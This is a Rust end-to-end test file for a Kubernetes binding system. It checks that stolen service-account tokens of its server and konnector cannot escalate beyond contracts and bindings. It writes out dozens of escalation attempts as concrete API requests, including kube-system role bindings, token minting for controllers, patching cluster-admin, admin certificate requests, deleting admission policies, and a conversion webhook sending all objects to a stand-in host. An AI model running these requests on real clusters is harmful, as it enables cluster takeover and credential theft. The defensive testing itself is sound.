//! Who stole the token of the server's account, or of the konnector's. RBAC gives them much, since contracts and bindings need it;
//! what is not for these, the policies on the accounts refuse.

use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use bindery_e2e::{Consumer, NAMESPACE, eventually, lease, run};
use futures::{StreamExt as _, stream};
use http::{Method, StatusCode};
use kube::Client;
use serde_json::{Value, json};

use crate::{
    attempt::{CONCURRENCY, send},
    served::{self, Served, Stock},
    tenant::RANCH,
    world::{Scope, World, attack},
};

const JSON: &str = "application/json";
const MERGE: &str = "application/merge-patch+json";
const RBAC: &str = "/apis/rbac.authorization.k8s.io/v1";
const STRANGER: &str = "stranger";
/// Types of Secrets that the API server or a tool acts on.
const TOKEN: &str = "kubernetes.io/service-account-token";

/// One request of a chain.
struct Step {
    method: Method,
    path: String,
    body: Value,
}

fn post(path: impl Into<String>, body: Value) -> Step {
    Step {
        method: Method::POST,
        path: path.into(),
        body,
    }
}

fn patch(path: impl Into<String>, body: Value) -> Step {
    Step {
        method: Method::PATCH,
        path: path.into(),
        body,
    }
}

fn get(path: impl Into<String>) -> Step {
    Step {
        method: Method::GET,
        path: path.into(),
        body: Value::Null,
    }
}

fn delete(path: impl Into<String>) -> Step {
    Step {
        method: Method::DELETE,
        path: path.into(),
        body: json!({}),
    }
}

/// A deletion that deletes nothing. An API server reads the options from the content, if there is any.
fn dry_delete(path: impl Into<String>) -> Step {
    Step {
        body: json!({"apiVersion": "v1", "kind": "DeleteOptions", "dryRun": ["All"]}),
        ..delete(path)
    }
}

impl Step {
    async fn run(&self, client: &Client) -> Result<StatusCode> {
        let content_type = if self.method == Method::PATCH { MERGE } else { JSON };
        let body = (!self.body.is_null()).then(|| (content_type, self.body.clone()));
        Ok(send(client, &self.method, &self.path, body.as_ref(), &[]).await?.status)
    }
}

/// Goes through chains for real, whatever becomes of a step. The last step of each must not succeed.
async fn none_arrives(client: &Client, chains: &[(&'static str, Vec<Step>)]) -> Result<()> {
    let mut arrived = Vec::new();
    for (name, chain) in chains {
        let mut last = None;
        for step in chain {
            last = Some(step.run(client).await.context(*name)?);
        }
        if last.context("an empty chain")?.is_success() {
            arrived.push(*name);
        }
    }
    ensure!(arrived.is_empty(), "these arrived: {arrived:?}");
    Ok(())
}

/// A role binding, or a cluster-wide one.
fn binding(name: &str, contract: &str, role: &str, subject: (&str, &str)) -> Value {
    json!({
        "metadata": {"name": name, "labels": {"kube-bind.io/contract": contract}},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
        "subjects": [{"kind": "ServiceAccount", "namespace": subject.0, "name": subject.1}],
    })
}

fn token_secret(account: &str) -> Value {
    json!({
        "metadata": {"name": "loot", "annotations": {"kubernetes.io/service-account.name": account}}, "type": TOKEN,
    })
}

/// The paths of role bindings, Secrets and service accounts of a namespace.
fn paths(namespace: &str) -> [String; 3] {
    [
        format!("{RBAC}/namespaces/{namespace}/rolebindings"),
        format!("/api/v1/namespaces/{namespace}/secrets"),
        format!("/api/v1/namespaces/{namespace}/serviceaccounts"),
    ]
}

/// Ways of the server's account to more than contracts.
fn server_chains(world: &World) -> Vec<(&'static str, Vec<Step>)> {
    let me = (NAMESPACE, "bindery-server");
    let (contract, space) = (world.zorro.contract.as_str(), world.zorro.space.as_str());
    let [system_bindings, system_secrets, system_accounts] = paths("kube-system");
    let [contract_bindings, contract_secrets, contract_accounts] = paths(contract);
    let [space_bindings, space_secrets, _] = paths(space);
    let (definitions, roles) = (
        "/apis/apiextensions.k8s.io/v1/customresourcedefinitions",
        format!("{RBAC}/clusterroles"),
    );
    let wide = format!("kube-binder-resources-{contract}-raid");
    let everything = json!([{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]);
    let labelled = |label: &str| json!({"metadata": {"name": wide, "labels": {"kube-bind.io/contract": contract, label: "true"}}, "rules": []});
    vec![
        (
            "its role in kube-system, to read Secrets",
            vec![
                post(
                    &system_bindings,
                    binding("bindery-server", "kube-system", "bindery-server-contract", me),
                ),
                get(&system_secrets),
            ],
        ),
        (
            "its role in kube-system, to make a token Secret",
            vec![
                post(
                    &system_bindings,
                    binding("bindery-server", contract, "bindery-server-contract", me),
                ),
                post(&system_secrets, token_secret("clusterrole-aggregation-controller")),
            ],
        ),
        (
            "kube-system labelled as a contract",
            vec![
                patch(
                    "/api/v1/namespaces/kube-system",
                    json!({"metadata": {"labels": {"kube-bind.io/contract": "kube-system"}}}),
                ),
                post(
                    &system_bindings,
                    binding("bindery-server", "kube-system", "bindery-server-contract", me),
                ),
                get(&system_secrets),
            ],
        ),
        (
            "kube-system labelled as shared",
            vec![
                patch(
                    "/api/v1/namespaces/kube-system",
                    json!({"metadata": {"labels": {"kube-bind.io/shared": "true"}}}),
                ),
                post(
                    &system_bindings,
                    binding(
                        "kube-binder-claims-x:secrets",
                        contract,
                        "kube-binder-claims-secrets",
                        (contract, "kube-binder"),
                    ),
                ),
            ],
        ),
        (
            "the role for claimed Secrets, elsewhere",
            vec![post(
                paths(STRANGER)[0].clone(),
                binding(
                    "kube-binder-claims-x:secrets",
                    contract,
                    "kube-binder-claims-secrets",
                    (contract, "kube-binder"),
                ),
            )],
        ),
        (
            "the role for claimed Secrets, cluster-wide",
            vec![post(
                format!("{RBAC}/clusterrolebindings"),
                binding(&wide, contract, "kube-binder-claims-secrets", (contract, "kube-binder")),
            )],
        ),
        (
            "view for somebody else",
            vec![post(
                &space_bindings,
                binding("bindery-server-view", contract, "view", ("stranger", "default")),
            )],
        ),
        (
            "view in kube-system",
            vec![
                post(&system_bindings, binding("bindery-server-view", contract, "view", me)),
                get("/api/v1/namespaces/kube-system/pods"),
            ],
        ),
        (
            "a token Secret in a contract",
            vec![post(&contract_secrets, token_secret("kube-binder"))],
        ),
        (
            "a token Secret in a provider namespace",
            vec![post(&space_secrets, token_secret("default"))],
        ),
        (
            "a token that nothing revokes",
            vec![post(
                format!("{contract_accounts}/kube-binder/token"),
                json!({"spec": {"audiences": [], "expirationSeconds": 31_536_000}}),
            )],
        ),
        (
            "a token of another account",
            vec![post(
                format!("{contract_accounts}/default/token"),
                json!({"spec": {"audiences": []}}),
            )],
        ),
        (
            "a token of a controller",
            vec![post(
                format!("{system_accounts}/clusterrole-aggregation-controller/token"),
                json!({"spec": {"audiences": []}}),
            )],
        ),
        (
            "another account in a contract",
            vec![post(&contract_accounts, json!({"metadata": {"name": "raider"}}))],
        ),
        (
            "aggregation into view",
            vec![post(&roles, labelled("rbac.authorization.k8s.io/aggregate-to-view"))],
        ),
        (
            "aggregation into its own",
            vec![post(&roles, labelled("rbac.kube-bind.io/aggregate-to-server"))],
        ),
        (
            "a role that aggregates",
            vec![post(
                &roles,
                json!({
                    "metadata": {"name": wide, "labels": {"kube-bind.io/contract": contract}},
                    "aggregationRule": {"clusterRoleSelectors": [{"matchLabels": {"kubernetes.io/bootstrapping": "rbac-defaults"}}]},
                }),
            )],
        ),
        (
            "a role with everything",
            vec![post(
                &roles,
                json!({
                    "metadata": {"name": wide, "labels": {"kube-bind.io/contract": contract}}, "rules": everything,
                }),
            )],
        ),
        (
            "an owner of a role of Kubernetes that is gone, so that the role goes",
            vec![patch(
                format!("{roles}/system:node"),
                json!({"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "Namespace", "name": "gone", "uid": "0-1"}]}}),
            )],
        ),
        (
            "finalizers of a role of Kubernetes",
            vec![patch(
                format!("{roles}/view"),
                json!({"metadata": {"finalizers": ["raid.example.dev/holds"]}}),
            )],
        ),
        (
            "more subjects of a binding of Kubernetes",
            vec![patch(
                format!("{RBAC}/clusterrolebindings/cluster-admin"),
                json!({"subjects": [{"kind": "ServiceAccount", "namespace": NAMESPACE, "name": "bindery-server"}]}),
            )],
        ),
        (
            "the end of a binding of Kubernetes",
            vec![delete(format!("{RBAC}/clusterrolebindings/system:node-proxier"))],
        ),
        (
            "the end of a stranger's namespace",
            vec![delete(format!("/api/v1/namespaces/{STRANGER}"))],
        ),
        (
            "a namespace that somebody will use",
            vec![post(
                "/api/v1/namespaces",
                json!({"metadata": {"name": "cert-manager", "labels": {"kube-bind.io/contract": "cert-manager"}}}),
            )],
        ),
        (
            "pods that may do more",
            vec![patch(
                format!("/api/v1/namespaces/{contract}"),
                json!({"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}),
            )],
        ),
        (
            "a conversion that is sent all objects",
            vec![patch(
                format!("{definitions}/clusterbindings.kube-bind.io"),
                json!({"spec": {"conversion": {"strategy": "Webhook", "webhook": {
                    "conversionReviewVersions": ["v1"], "clientConfig": {"url": "https://raid.example.dev"},
                }}}}),
            )],
        ),
        (
            "a definition of its own",
            vec![post(
                definitions,
                json!({
                    "metadata": {"name": "raids.example.dev"},
                    "spec": {
                        "group": "example.dev", "scope": "Namespaced", "names": {"plural": "raids", "kind": "Raid"},
                        "versions": [{"name": "v1", "served": true, "storage": true, "schema": {"openAPIV3Schema": {"type": "object"}}}],
                    },
                }),
            )],
        ),
        (
            "its own policy",
            vec![
                patch(
                    "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/kube-bind-server",
                    json!({"spec": {"validationActions": ["Audit"]}}),
                ),
                delete("/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/kube-bind-server"),
            ],
        ),
        (
            "a certificate of an admin",
            vec![post(
                "/apis/certificates.k8s.io/v1/certificatesigningrequests",
                json!({
                    "metadata": {"name": "raid"},
                    "spec": {"request": "cmFpZA==", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]},
                }),
            )],
        ),
        (
            "the Secrets of another program in its namespace",
            vec![patch(
                format!("/api/v1/namespaces/{NAMESPACE}/secrets/others"),
                json!({"data": {"a": "Yg=="}}),
            )],
        ),
        (
            "another account in its binding of a contract",
            vec![post(
                &contract_bindings,
                binding("kube-binder", contract, "kube-binder", ("stranger", "default")),
            )],
        ),
    ]
}

#[test]
fn a_stolen_token_of_the_server_leads_no_further_than_contracts() -> Result<()> {
    attack(Scope::Namespaced, async |world| {
        let admin = world.provider.plane.client();
        plant(&admin).await?;
        let thief = world
            .provider
            .plane
            .service_account_client(NAMESPACE, "bindery-server")
            .await?;
        let chains = server_chains(world);
        ensure!(chains.len() >= 20);
        none_arrives(&thief, &chains).await
    })
}

#[test]
fn a_stolen_token_of_the_server_writes_and_reads_nothing_else() -> Result<()> {
    attack(Scope::Namespaced, async |world| {
        let admin = world.provider.plane.client();
        plant(&admin).await?;
        let thief = world
            .provider
            .plane
            .service_account_client(NAMESPACE, "bindery-server")
            .await?;
        let served = served::discover(&admin).await?;
        let stock = Stock::take(&admin, &served).await?;
        let zorro = &world.zorro;
        let namespaces = [NAMESPACE, &zorro.contract, &zorro.space, RANCH, STRANGER, "kube-system"];
        let done = everything(&thief, &served, &stock, &namespaces).await?;
        let contracts = [&zorro.contract, &zorro.space, &world.joe.contract].map(String::as_str);
        let beyond: Vec<_> = done.iter().filter(|done| !is_the_servers(done, &contracts)).collect();
        ensure!(beyond.is_empty(), "beyond contracts: {beyond:#?}");
        Ok(())
    })
}

/// A request that succeeded.
#[derive(Debug)]
struct Done {
    verb: &'static str,
    group: String,
    resource: String,
    namespace: Option<String>,
    name: String,
}

/// Whether a request is part of serving contracts, or reads what is no secret.
fn is_the_servers(done: &Done, contracts: &[&str]) -> bool {
    let is_in_contract = done
        .namespace
        .as_deref()
        .is_some_and(|namespace| contracts.contains(&namespace));
    let reads = ["get", "list"].contains(&done.verb);
    if done.group.is_empty() && done.resource == "secrets" {
        // In its own namespace, which is for nothing else, it reads a Secret by name.
        return is_in_contract || (done.verb == "get" && done.namespace.as_deref() == Some(NAMESPACE));
    }
    let is_of_contracts = [
        "kube-bind.io",
        "events.k8s.io",
        "authentication.k8s.io",
        "authorization.k8s.io",
    ];
    let is_lease = done.resource == "leases" && done.namespace.as_deref() == Some(NAMESPACE);
    let is_own_definition = done.resource == "customresourcedefinitions" && done.name.ends_with(".kube-bind.io");
    // What is offered, and written by one of the two tenants, whose names its objects carry.
    let is_tenants = ["joe-", "zorro-"].iter().any(|tenant| done.name.starts_with(tenant));
    reads
        || is_in_contract
        || is_lease
        || is_of_contracts.contains(&done.group.as_str())
        || (is_own_definition && done.verb == "patch")
        || (is_tenants && done.group.ends_with(".example.dev"))
        || contracts.iter().any(|contract| done.name.contains(contract))
}

/// Tries every verb on every resource as a dry run, on what is there and on a new object.
async fn everything(thief: &Client, served: &[Served], stock: &Stock, namespaces: &[&str]) -> Result<Vec<Done>> {
    let mut attempts = Vec::new();
    for resource in served {
        let places: Vec<Option<&str>> = if resource.namespaced {
            namespaces.iter().copied().map(Some).collect()
        } else {
            vec![None]
        };
        for place in places {
            attempts.extend(of(resource, place, stock));
        }
    }
    ensure!(attempts.len() > 1_000, "only {} attempts", attempts.len());
    let outcomes: Vec<_> = stream::iter(attempts)
        .map(async |(step, done)| Ok::<_, anyhow::Error>((step.run(thief).await?, done)))
        .buffer_unordered(CONCURRENCY)
        .collect()
        .await;
    let mut all = Vec::new();
    for outcome in outcomes {
        let (status, done) = outcome?;
        // What exists already was let in.
        if status.is_success() || status == StatusCode::CONFLICT {
            all.push(done);
        }
    }
    Ok(all)
}

fn of(resource: &Served, namespace: Option<&str>, stock: &Stock) -> Vec<(Step, Done)> {
    let (_, subresource) = resource.split();
    let (api_version, kind) = &resource.body;
    let done = |verb: &'static str, name: &str| Done {
        verb,
        group: resource.group.clone(),
        resource: resource.name.clone(),
        namespace: namespace.map(str::to_owned),
        name: name.to_owned(),
    };
    let fresh = json!({"apiVersion": api_version, "kind": kind, "metadata": {"name": "raider"}});
    let mut names: Vec<_> = stock
        .of(resource, namespace)
        .filter_map(|object| object["metadata"]["name"].as_str())
        .take(4)
        .collect();
    names.push("raider");
    let mut all = Vec::new();
    for verb in &resource.verbs {
        match (verb.as_str(), subresource) {
            ("list", None) => all.push((
                get(format!("{}?limit=1", resource.collection(namespace))),
                done("list", ""),
            )),
            ("create", None) => all.push((
                post(format!("{}?dryRun=All", resource.collection(namespace)), fresh.clone()),
                done("create", "raider"),
            )),
            ("get" | "patch" | "delete" | "create", _) => {
                for name in &names {
                    let path = format!("{}?dryRun=All", resource.object(namespace, name));
                    let label = json!({"metadata": {"labels": {"raided": "yes"}}});
                    all.push(match verb.as_str() {
                        "get" => (get(path), done("get", name)),
                        "patch" => (patch(path, label), done("patch", name)),
                        "create" => (post(path, fresh.clone()), done("create", name)),
                        _ => (dry_delete(path), done("delete", name)),
                    });
                }
            }
            _ => {}
        }
    }
    all
}

/// Puts a stranger's namespace and another program's Secret there, unless they are.
async fn plant(admin: &Client) -> Result<()> {
    for (path, object) in [
        ("/api/v1/namespaces".to_owned(), json!({"metadata": {"name": STRANGER}})),
        (
            format!("/api/v1/namespaces/{STRANGER}/secrets"),
            json!({"metadata": {"name": "gold"}}),
        ),
        (
            format!("/api/v1/namespaces/{NAMESPACE}/secrets"),
            json!({"metadata": {"name": "others"}}),
        ),
    ] {
        let status = post(path.clone(), object).run(admin).await?;
        ensure!(
            status.is_success() || status == StatusCode::CONFLICT,
            "{path}: {status}"
        );
    }
    Ok(())
}

/// Ways of the konnector's account to more than bindings.
fn konnector_chains() -> Vec<(&'static str, Vec<Step>)> {
    let [own_bindings, own_secrets, own_accounts] = paths(NAMESPACE);
    let [system_bindings, system_secrets, system_accounts] = paths("kube-system");
    let me = (NAMESPACE, "konnector");
    let secret = |type_: &str| json!({"metadata": {"name": "loot"}, "type": type_});
    let definitions = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions";
    let definition = |group: &str, conversion: Value| {
        json!({
            "metadata": {"name": format!("raids.{group}"), "ownerReferences": [{
                "apiVersion": "kube-bind.io/v1alpha2", "kind": "APIServiceBinding", "name": "raid", "uid": "0-1", "controller": true,
            }]},
            "spec": {
                "group": group, "scope": "Namespaced", "names": {"plural": "raids", "kind": "Raid"}, "conversion": conversion,
                "versions": [{"name": "v1", "served": true, "storage": true, "schema": {"openAPIV3Schema": {"type": "object"}}}],
            },
        })
    };
    let webhook = json!({"strategy": "Webhook", "webhook": {
        "conversionReviewVersions": ["v1"], "clientConfig": {"url": "https://raid.example.dev"},
    }});
    vec![
        (
            "a token Secret of its own",
            vec![post(&own_secrets, token_secret("konnector"))],
        ),
        (
            "a token Secret of a controller",
            vec![post(
                &system_secrets,
                token_secret("clusterrole-aggregation-controller"),
            )],
        ),
        (
            "a release of Helm",
            vec![post(&own_secrets, secret("helm.sh/release.v1"))],
        ),
        (
            "a release of Helm elsewhere",
            vec![post(&system_secrets, secret("helm.sh/release.v1"))],
        ),
        (
            "the history of a set",
            vec![post(&own_secrets, secret("synk.cloudrobotics.com/history"))],
        ),
        (
            "a bootstrap token",
            vec![post(&system_secrets, secret("bootstrap.kubernetes.io/token"))],
        ),
        ("the Secrets of the cluster", vec![get("/api/v1/secrets")]),
        ("the Secrets of kube-system", vec![get(&system_secrets)]),
        (
            "a token of itself",
            vec![post(
                format!("{own_accounts}/konnector/token"),
                json!({"spec": {"audiences": []}}),
            )],
        ),
        (
            "a token of a controller",
            vec![post(
                format!("{system_accounts}/clusterrole-aggregation-controller/token"),
                json!({"spec": {"audiences": []}}),
            )],
        ),
        (
            "a binding of cluster-admin",
            vec![post(
                format!("{RBAC}/clusterrolebindings"),
                binding("kube-bind-konnector-raid", "x", "cluster-admin", me),
            )],
        ),
        (
            "a binding of admin in its namespace",
            vec![post(&own_bindings, binding("raid", "x", "admin", me))],
        ),
        (
            "a binding of admin in kube-system",
            vec![post(&system_bindings, binding("raid", "x", "admin", me))],
        ),
        (
            "a role of a binding",
            vec![post(
                format!("{RBAC}/clusterroles"),
                json!({"metadata": {"name": "kube-bind-konnector-raid"}, "rules": []}),
            )],
        ),
        (
            "more in its own role",
            vec![patch(
                format!("{RBAC}/clusterroles/kube-bind-konnector"),
                json!({"metadata": {"labels": {"a": "b"}}}),
            )],
        ),
        (
            "the end of a role of Kubernetes",
            vec![delete(format!("{RBAC}/clusterroles/view"))],
        ),
        (
            "a definition of Kubernetes",
            vec![post(definitions, definition("raid.k8s.io", Value::Null))],
        ),
        (
            "a definition with a conversion",
            vec![post(definitions, definition("raid.example.dev", webhook))],
        ),
        (
            "a definition of somebody",
            vec![delete(format!("{definitions}/apiservicebindings.kube-bind.io"))],
        ),
        (
            "a namespace with labels",
            vec![post(
                "/api/v1/namespaces",
                json!({
                    "metadata": {"name": "raid", "labels": {"pod-security.kubernetes.io/enforce": "privileged"}},
                }),
            )],
        ),
        (
            "the Lease of a controller",
            vec![patch(
                "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-controller-manager",
                json!({"spec": {"holderIdentity": "x"}}),
            )],
        ),
        (
            "its own policy",
            vec![delete(
                "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/kube-bind-konnector-account",
            )],
        ),
        (
            "a certificate of an admin",
            vec![post(
                "/apis/certificates.k8s.io/v1/certificatesigningrequests",
                json!({
                    "metadata": {"name": "raid"},
                    "spec": {"request": "cmFpZA==", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]},
                }),
            )],
        ),
        (
            "a pod",
            vec![post(
                format!("/api/v1/namespaces/{NAMESPACE}/pods"),
                json!({
                    "metadata": {"name": "raid"}, "spec": {"containers": [{"name": "raid", "image": "raid"}]},
                }),
            )],
        ),
    ]
}

/// With all rights beside its own, as if each binding named everything: what is refused then, the policies refuse.
#[test]
fn a_stolen_token_of_the_konnector_leads_no_further_than_bindings() -> Result<()> {
    run(async {
        let consumer = Consumer::start_with("robbed", &lease::PATIENT).await?;
        let thief = consumer.plane.service_account_client(NAMESPACE, "konnector").await?;
        none_arrives(&thief, &konnector_chains())
            .await
            .context("with its own rights")?;
        let all = json!({"apiVersion": "v1", "kind": "List", "items": [
            {
                "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": "writes"},
                "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": [
                    "create", "update", "patch", "delete", "bind", "escalate", "approve", "sign",
                ]}],
            },
            {
                "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "writes"},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "writes"},
                "subjects": [{"kind": "ServiceAccount", "namespace": NAMESPACE, "name": "konnector"}],
            },
        ]});
        consumer.plane.apply(&all.to_string()).await?;
        let may = post(
            format!("/api/v1/namespaces/{STRANGER}/configmaps?dryRun=All"),
            json!({"metadata": {"name": "x"}}),
        );
        eventually("the rights", Duration::from_mins(1), async || {
            // Not there, but no longer forbidden by RBAC.
            Ok((may.run(&thief).await? == StatusCode::NOT_FOUND).then_some(()))
        })
        .await?;
        // But policies and the binding of policies, which no policy looks at.
        let mut chains = konnector_chains();
        chains.retain(|(name, _)| *name != "its own policy");
        none_arrives(&thief, &chains).await.context("with all rights to write")
    })
}
